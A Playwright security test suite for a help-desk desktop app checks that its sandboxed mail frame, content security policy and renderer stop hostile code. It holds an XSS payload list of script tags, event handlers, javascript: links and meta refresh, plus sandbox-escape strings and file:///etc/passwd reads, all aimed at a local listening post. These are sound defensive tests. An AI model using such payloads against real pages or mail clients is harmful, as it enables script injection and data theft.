import { readdir } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { deliverPlainly } from '../support/plain-smtp';
import { agent, mailAddress } from '../support/shop-company';
import { DeskPage } from './stage/desk-page';
import { anna, htmlLetter } from './stage/letters';
import { keptTokens } from './stage/kept-token';
import { openListeningPost, type ListeningPost } from './stage/listening-post';
import { openStage, type Stage } from './stage/stage';
import { openWorkstation, type Workstation } from './stage/workstation';

/** The window as somebody's who runs code in it. Nothing that they do may reach a file, a host, a token or another person. */
let stage: Stage;
let workstation: Workstation;
let page: Page;
let post: ListeningPost;

test.beforeAll(async () => {
  stage = await openStage();
  post = await openListeningPost();
  workstation = await openWorkstation({ folder: await stage.computer(), server: stage.server.url, signIn: `${agent.email}:${agent.password}` });
  page = workstation.window;
  await new DeskPage(page).online();
});
test.afterAll(async () => {
  await workstation.app.close();
  await post.close();
  await stage.close();
});
test.afterEach(async () => {
  expect(post.knocks()).toEqual([]);
  expect(workstation.app.windows()).toHaveLength(1);
  await expect(page.locator('[data-connection="online"]')).toBeVisible();
});

test('S-14 a hostile mail cannot reach out of its frame, even if nothing had cleaned it', async () => {
  const markup = hostileMarkup(post.port);
  await deliverPlainly({ port: stage.server.smtpPort, from: anna.email, to: mailAddress, content: htmlLetter('Беда', `<p>видимый текст</p>${markup}`) });
  const desk = new DeskPage(page);
  await desk.view('queue');
  await desk.open('Беда');
  const letter = desk.messages('inbound');
  await letter.getByRole('button', { name: 'С оформлением' }).click();
  await expect(letter.frameLocator('iframe').locator('body')).toContainText('видимый текст');
  const home = page.url();
  const frame = await letter.locator('iframe').evaluate((element, raw) => {
    const inner = element instanceof HTMLIFrameElement ? element : null;
    const body = inner?.contentDocument?.body;
    const trusted = window.trustedTypes?.createPolicy('hostile', { createHTML: (text: string) => text });
    if (body !== undefined) body.innerHTML = trusted?.createHTML(raw) ?? raw;
    for (const link of body?.querySelectorAll('a') ?? []) link.click();
    for (const form of body?.querySelectorAll('form') ?? []) form.submit();
    return { sandbox: inner?.getAttribute('sandbox') };
  }, markup);
  expect(frame.sandbox).not.toContain('allow-scripts');
  expect(frame.sandbox).not.toMatch(/allow-(top|popups|forms|modals|downloads)/);
  await page.waitForTimeout(800);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(page.url()).toBe(home);
});

const policy = [
  "default-src 'none'", "script-src 'self'", "style-src 'self' 'nonce-…'", "img-src 'self' blob: data:", "font-src 'self'", "media-src 'self' blob:", "worker-src 'self'", "frame-src 'self'",
  "connect-src 'none'", "base-uri 'none'", "form-action 'none'", "object-src 'none'", "frame-ancestors 'none'", "require-trusted-types-for 'script'",
].join('; ');

test('S-13 the page stands under exactly this policy', async () => {
  const told = page.evaluate(() => new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.originalPolicy), { once: true })));
  await page.evaluate(() => void fetch('https://example.org/').catch(() => undefined));
  expect((await told).replace(/'nonce-[\w+/=]{24}'/, "'nonce-…'")).toBe(policy);
});

test('S-12 there is no Node, no Electron, and one bridge with two verbs', async () => {
  const found = await page.evaluate(() => {
    const names = ['require', 'module', 'exports', 'process', 'Buffer', 'global', '__dirname', '__filename', 'electron', 'ipcRenderer', 'setImmediate', 'opener'];
    const inner = document.body.appendChild(document.createElement('iframe'));
    const innerBridge = inner.contentWindow !== null && 'otklik' in inner.contentWindow;
    inner.remove();
    const own = Object.getOwnPropertyDescriptor(window, 'otklik');
    return {
      named: names.filter((name) => name in window && (name !== 'opener' || window.opener !== null)),
      verbs: Object.keys(window.otklik).sort(),
      innerBridge,
      replaced: Reflect.set(window, 'otklik', 'mine') || own?.configurable,
      webview: 'loadURL' in document.createElement('webview'),
    };
  });
  expect(found).toEqual({ named: [], innerBridge: false, verbs: ['ask', 'watch'], replaced: false, webview: false });
});

/** What the debugger evaluates may make code from text; a turn of the page's own may not. */
test('no code is made from text, not even through the bridge', async () => {
  const attempts = ["eval('1')", "Function('return 1')()", "otklik.ask.constructor('return process')()", "otklik.watch.constructor.constructor('return process')()", "(async () => {}).constructor('return 1')()"];
  const outcomes = await page.evaluate(`Promise.all(${JSON.stringify(attempts)}.map((text) => new Promise((resolve) => {
    const work = { ${attempts.map((text) => `${JSON.stringify(text)}: () => ${text}`).join(', ')} }[text];
    setTimeout(() => { try { work(); resolve('made'); } catch (error) { resolve(error.name); } }, 0);
  })))`);
  expect(outcomes).toEqual(attempts.map(() => 'EvalError'));
});

test('S-12 no token and no password is anywhere in the page, also not in its memory', async () => {
  const tokens = await keptTokens(workstation.folder);
  const kept = await page.evaluate(async () => ({
    local: Object.entries(localStorage).filter(([key]) => !key.startsWith('mantine')),
    session: Object.entries(sessionStorage),
    cookies: document.cookie,
    databases: await indexedDB.databases(),
    caches: await caches.keys().catch(() => []),
  }));
  expect(kept).toEqual({ local: [], session: [], cookies: '', databases: [], caches: [] });
  const memory = await heapOf(page);
  const held = ['queue', agent.password, 'Bearer ', ...tokens].filter((text) => memory.includes(text));
  expect(held).toEqual(['queue']);
});

test('S-12 no connection of a script leaves the page', async () => {
  const outcomes = await page.evaluate(async (port) => {
    const url = `http://127.0.0.1:${port}/stolen`;
    const failed = (work: () => Promise<unknown>): Promise<string> => work().then(() => 'went through', () => 'refused');
    const heard = (target: EventTarget): Promise<void> =>
      new Promise((resolve, reject) => {
        for (const name of ['open', 'load']) target.addEventListener(name, () => resolve());
        for (const name of ['error', 'close', 'abort']) target.addEventListener(name, () => reject(new Error(name)));
      });
    const request = new XMLHttpRequest();
    const sent = failed(() => heard(request));
    request.open('POST', url);
    request.send('x');
    navigator.sendBeacon(url, 'x');
    return {
      request: await sent,
      fetch: await failed(() => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors' })),
      file: await failed(() => fetch('file:///etc/passwd')),
      socket: await failed(async () => heard(new WebSocket(`ws://127.0.0.1:${port}/`))),
      events: await failed(async () => heard(new EventSource(url))),
      worker: await failed(async () => heard(new Worker(`data:text/javascript,fetch('${url}')`))),
      module: await failed(() => import(url)),
    };
  }, post.port);
  expect(new Set(Object.values(outcomes))).toEqual(new Set(['refused']));
  await page.waitForTimeout(500);
});

test('no element brings anything in or carries anything out', async () => {
  const elements = [
    ['img', 'src'], ['script', 'src'], ['video', 'src'], ['audio', 'src'], ['embed', 'src'], ['iframe', 'src'], ['object', 'data'], ['link', 'href', 'stylesheet'], ['link', 'href', 'prefetch'],
    ['link', 'href', 'preload'], ['link', 'href', 'preconnect'], ['link', 'href', 'dns-prefetch'], ['link', 'href', 'manifest'], ['link', 'href', 'icon'], ['link', 'href', 'modulepreload'],
  ];
  const loaded = await page.evaluate(
    async ({ tags, url }) => {
      const trusted = window.trustedTypes?.createPolicy('elements', { createHTML: (text) => text });
      const box = document.body.appendChild(document.createElement('div'));
      const came: string[] = [];
      box.addEventListener('load', ({ target }) => void came.push(target instanceof Element ? target.tagName : ''), true);
      const markup = tags.map(([tag, attribute, rel]) => `<${tag} ${attribute}="${url}/${tag}" rel="${rel}" as="image" autoplay></${tag}>`).join('');
      box.innerHTML = trusted?.createHTML(`${markup}<style>@import url(${url}/a.css); body { cursor: url(${url}/b.cur), auto }</style><p style="background: url(${url}/c.png)">x</p>`) ?? '';
      await new Promise((resolve) => setTimeout(resolve, 1000));
      box.remove();
      return came;
    },
    { tags: elements, url: `http://127.0.0.1:${post.port}` },
  );
  // A refused frame shows an empty page, and that has loaded.
  expect(loaded.filter((tag) => tag !== 'IFRAME')).toEqual([]);
});

test('WebRTC asks nobody for its address', async () => {
  await page.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }, { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'stolen', credential: 'x' }] });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
    connection.close();
  }, post.port);
});

test('the page goes nowhere and opens nothing', async () => {
  const home = page.url();
  for (const to of [`http://127.0.0.1:${post.port}/`, 'file:///etc/passwd', 'data:text/html,stolen', 'javascript:document.title="stolen"', 'blob:null/x', 'app://other/index.html']) {
    await page.evaluate((address) => {
      const link = document.createElement('a');
      link.href = address;
      link.ping = address;
      document.body.append(link);
      link.click();
      link.target = '_blank';
      link.click();
      link.remove();
      window.open(address);
      window.open(address, '_self');
      const form = document.createElement('form');
      form.action = address;
      document.body.append(form);
      form.submit();
      form.remove();
      try {
        location.assign(address);
      } catch {
        // refused at once: as good as refused later
      }
    }, to);
    await page.waitForTimeout(150);
    expect(page.url()).toBe(home);
  }
  expect(await page.evaluate(() => window.open('about:blank'))).toBeNull();
  expect(await page.title()).toBe('Отклик');
});

test('no permission is granted', async () => {
  const answers = await page.evaluate(async () => {
    const word = (work: () => Promise<unknown>, patience = 20_000): Promise<string> => Promise.race([work().then((value) => (typeof value === 'string' ? value : 'granted'), () => 'refused'), new Promise<string>((resolve) => setTimeout(() => resolve('silent'), patience))]);
    const states: Record<string, string> = {};
    for (const name of ['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi', 'persistent-storage', 'idle-detection', 'window-management']) {
      states[name] = await navigator.permissions.query({ name: name as PermissionName }).then(({ state }) => state, () => 'unknown');
    }
    return {
      states: Object.values(states).filter((state) => state === 'granted'),
      camera: await word(() => navigator.mediaDevices.getUserMedia({ video: true })),
      microphone: await word(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await word(() => navigator.mediaDevices.getDisplayMedia({ video: true }), 1000),
      place: await word(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
      clipboard: await word(() => navigator.clipboard.readText().then(() => 'granted')),
      notification: await word(() => Notification.requestPermission()),
    };
  });
  expect(['refused', 'silent']).toContain(answers.screen);
  expect(answers).toMatchObject({ states: [], camera: 'refused', microphone: 'refused', place: 'refused', clipboard: 'refused', notification: 'denied' });
});

test('nothing is downloaded', async () => {
  await page.evaluate(() => {
    for (const href of [URL.createObjectURL(new Blob(['stolen'])), 'data:application/octet-stream,stolen']) {
      const link = document.createElement('a');
      link.href = href;
      link.download = 'stolen.exe';
      document.body.append(link);
      link.click();
      link.remove();
    }
  });
  await expect.poll(() => workstation.printed.filter((line) => line.includes('"what":"download"')).length).toBeGreaterThan(0);
  const files = await readdir(workstation.folder, { recursive: true });
  expect(files.filter((file) => file.includes('stolen'))).toEqual([]);
});

function hostileMarkup(port: number): string {
  const out = `http://127.0.0.1:${port}`;
  const act = `top.stolen=true;parent.stolen=true;fetch('${out}')`;
  return [
    `<script>${act}</script>`, `<img src="${out}/a.png" onerror="${act}">`, `<img src=x onerror="${act}">`, `<svg onload="${act}"><script>${act}</script></svg>`, `<a href="javascript:${act}" target="_top">a</a>`,
    `<a href="${out}" target="_top">b</a>`, `<a href="${out}" target="_blank" ping="${out}">c</a>`, `<form action="${out}" target="_top"><input name="x" autofocus onfocus="${act}"></form>`, `<iframe src="${out}"></iframe>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`, `<meta http-equiv="refresh" content="0;url=${out}">`, `<base href="${out}">`, `<link rel="stylesheet" href="${out}/a.css">`, `<style>@import url(${out}/b.css); body{background:url(${out}/c.png)}</style>`,
    `<div style="background:url(${out}/d.png)">d</div>`, `<video src="${out}/e.mp4" poster="${out}/f.png" onerror="${act}"></video>`, `<object data="${out}"></object>`, `<embed src="${out}">`, `<details open ontoggle="${act}">e</details>`, `<input type="image" src="${out}/g.png">`,
  ].join('');
}

/** Everything that the page's memory holds, as V8 writes it down. */
async function heapOf(of: Page): Promise<string> {
  const devtools = await of.context().newCDPSession(of);
  const pieces: string[] = [];
  devtools.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => pieces.push(chunk));
  await devtools.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
  await devtools.detach();
  return pieces.join('');
}
